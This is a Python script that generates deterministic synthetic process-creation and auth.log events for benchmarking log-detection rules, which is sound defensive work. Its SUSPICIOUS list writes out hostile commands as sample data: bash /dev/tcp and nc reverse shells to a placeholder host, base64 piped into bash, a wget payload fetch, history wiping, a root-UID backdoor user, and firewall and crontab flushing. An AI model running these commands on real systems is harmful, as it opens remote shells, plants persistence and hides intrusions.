#!/usr/bin/env python3
"""Deterministic logs for bench/detection: JSON-lines process-creation events and auth.log lines.

Usage: generate.py OUT_DIR [MILLIONS_OF_EVENTS] [AUTH_LINES_MILLIONS]
Writes OUT_DIR/process.jsonl (one process creation per line, Sigma's taxonomy field names, as Sysmon for Linux or
an EDR export would give them) and OUT_DIR/auth.log (sshd, sudo, su, useradd, systemd-logind, CRON lines in the
syslog format). A small share of events is malicious-looking (reverse shells, history wiping, base64 piped to a
shell, new users, brute force) so rules fire; the rest is ordinary server activity that none of the SigmaHQ Linux rules flags (curl and find, which
rules flag at low levels, are left out of it so the alert volume stays realistic). The seed is fixed: the same
arguments always give the same bytes.
"""
import json
import random
import sys
from datetime import datetime, timedelta, timezone

SEED = 20261123
# Ordinary commands, each with arguments that vary as they do on real servers (sites, files, dates, ids), so
# command lines rarely repeat while programs, parents, users and directories do.
WORDS = ["error", "timeout", "denied", "upstream", "checkout", "invoice", "session", "retry", "healthz", "payment"]
SITES = ["shop", "api", "admin", "static", "blog", "status", "auth", "files"]
BENIGN = [
    ("/usr/bin/ls", lambda r: f"ls -la /var/www/{r.choice(SITES)}/releases/{r.randrange(1, 400)}"),
    ("/usr/bin/grep", lambda r: f"grep -r {r.choice(WORDS)} /var/log/nginx/{r.choice(SITES)}.access.log.{r.randrange(1, 14)}"),
    ("/usr/bin/python3", lambda r: f"python3 /opt/app/manage.py {r.choice(['migrate', 'collectstatic', 'clearsessions', 'check'])} --verbosity {r.randrange(0, 3)}"),
    ("/usr/bin/systemctl", lambda r: f"systemctl status {r.choice(['nginx', 'postgresql', 'app-worker@' + str(r.randrange(1, 32)), 'redis'])}"),
    ("/usr/bin/tar", lambda r: f"tar czf /backup/etc-2026{r.randrange(1, 13):02d}{r.randrange(1, 29):02d}-{r.randrange(0, 24):02d}.tgz /etc"),
    ("/usr/sbin/nginx", lambda r: "nginx -s reload"),
    ("/usr/bin/ps", lambda r: f"ps -o pid,rss,cmd -p {r.randrange(300, 65000)}"),
    ("/usr/bin/cat", lambda r: f"cat /srv/app/{r.choice(SITES)}/config/{r.choice(WORDS)}.yml"),
    ("/usr/bin/git", lambda r: f"git -C /srv/app/{r.choice(SITES)} pull --ff-only origin release-{r.randrange(100, 999)}"),
    ("/usr/bin/rsync", lambda r: f"rsync -a /srv/app/{r.choice(SITES)}/ /backup/app/{r.choice(SITES)}-{r.randrange(1, 60)}/"),
    ("/usr/bin/awk", lambda r: f"awk '{{print ${r.randrange(1, 9)}}}' /var/log/nginx/{r.choice(SITES)}.access.log"),
    ("/usr/bin/sort", lambda r: f"sort -u /srv/app/ids-{r.randrange(1, 5000)}.txt"),
]
SUSPICIOUS = [
    ("/usr/bin/bash", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"),
    ("/usr/bin/nc", "nc -e /bin/sh 203.0.113.7 4444"),
    ("/usr/bin/base64", "base64 -d /tmp/x | bash"),
    ("/usr/bin/rm", "rm -rf ~/.bash_history"),
    ("/usr/sbin/useradd", "useradd -o -u 0 toor"),
    ("/usr/bin/chmod", "chmod u+s /tmp/sh"),
    ("/usr/bin/wget", "wget http://198.51.100.9/x.sh -O /tmp/x.sh"),
    ("/usr/sbin/iptables", "iptables -F"),
    ("/usr/bin/crontab", "crontab -r"),
    ("/usr/bin/history", "history -c"),
]
PARENTS = ["/usr/bin/bash", "/usr/sbin/sshd", "/usr/lib/systemd/systemd", "/usr/sbin/cron", "/usr/bin/python3"]
USERS = ["root", "www-data", "alice", "bob", "deploy", "postgres"]


def process_events(out, count, rng):
    start = datetime(2026, 11, 22, tzinfo=timezone.utc)
    with open(out, "w") as f:
        for i in range(count):
            if rng.random() < 0.001:
                image, command = rng.choice(SUSPICIOUS)
            else:
                image, make = rng.choice(BENIGN)
                command = make(rng)
            parent = rng.choice(PARENTS)
            event = {
                "UtcTime": (start + timedelta(milliseconds=i * 3)).isoformat(timespec="milliseconds").replace("+00:00", "Z"),
                "Computer": f"web-{i % 7 + 1}",
                "ProcessId": 1000 + i % 60000,
                "Image": image,
                "CommandLine": command,
                "CurrentDirectory": "/root" if rng.random() < 0.2 else "/srv/app",
                "User": rng.choice(USERS),
                "LogonId": rng.randrange(0, 5000),
                "ParentProcessId": 900 + i % 50000,
                "ParentImage": parent,
                "ParentCommandLine": parent.rsplit("/", 1)[1] + ("" if rng.random() < 0.5 else f" --pid {rng.randrange(2, 40000)}"),
            }
            f.write(json.dumps(event, separators=(",", ":")) + "\n")


def auth_lines(out, count, rng):
    start = datetime(2026, 11, 22, tzinfo=timezone.utc)
    with open(out, "w") as f:
        for i in range(count):
            t = start + timedelta(milliseconds=i * 40)
            stamp = t.strftime("%b %d %H:%M:%S").replace(" 0", "  ", 1) if t.day < 10 else t.strftime("%b %d %H:%M:%S")
            pid = 2000 + i % 30000
            ip = f"203.0.113.{rng.randrange(1, 40)}" if rng.random() < 0.3 else f"10.0.{rng.randrange(0, 4)}.{rng.randrange(1, 250)}"
            user = rng.choice(USERS)
            r = rng.random()
            if r < 0.25:
                msg = f"sshd[{pid}]: Failed password for {'invalid user ' if rng.random() < 0.3 else ''}{user} from {ip} port {rng.randrange(30000, 65000)} ssh2"
            elif r < 0.45:
                msg = f"sshd[{pid}]: Accepted publickey for {user} from {ip} port {rng.randrange(30000, 65000)} ssh2: ED25519 SHA256:q0b8dK4vYxZr1m2n3o4p5q6r7s8t9u0v1w2x3y4z5A"
            elif r < 0.6:
                msg = f"sudo[{pid}]:    {user} : TTY=pts/{rng.randrange(0, 5)} ; PWD=/home/{user} ; USER=root ; COMMAND=/usr/bin/systemctl restart nginx"
            elif r < 0.7:
                msg = f"systemd-logind[512]: New session {i % 9000} of user {user}."
            elif r < 0.8:
                msg = f"CRON[{pid}]: pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)"
            elif r < 0.801:
                msg = f"useradd[{pid}]: new user: name=svc{i % 100}, UID={1100 + i % 100}, GID={1100 + i % 100}, home=/home/svc{i % 100}, shell=/bin/bash, from=/dev/pts/0"
            elif r < 0.9:
                msg = f"sshd[{pid}]: Connection closed by authenticating user {user} {ip} port {rng.randrange(30000, 65000)} [preauth]"
            else:
                msg = f"su[{pid}]: (to root) {user} on pts/{rng.randrange(0, 5)}"
            f.write(f"{stamp} web-1 {msg}\n")


def main():
    out = sys.argv[1]
    millions = float(sys.argv[2]) if len(sys.argv) > 2 else 2
    auth_millions = float(sys.argv[3]) if len(sys.argv) > 3 else 1
    rng = random.Random(SEED)
    process_events(f"{out}/process.jsonl", int(millions * 1_000_000), rng)
    auth_lines(f"{out}/auth.log", int(auth_millions * 1_000_000), rng)


if __name__ == "__main__":
    main()
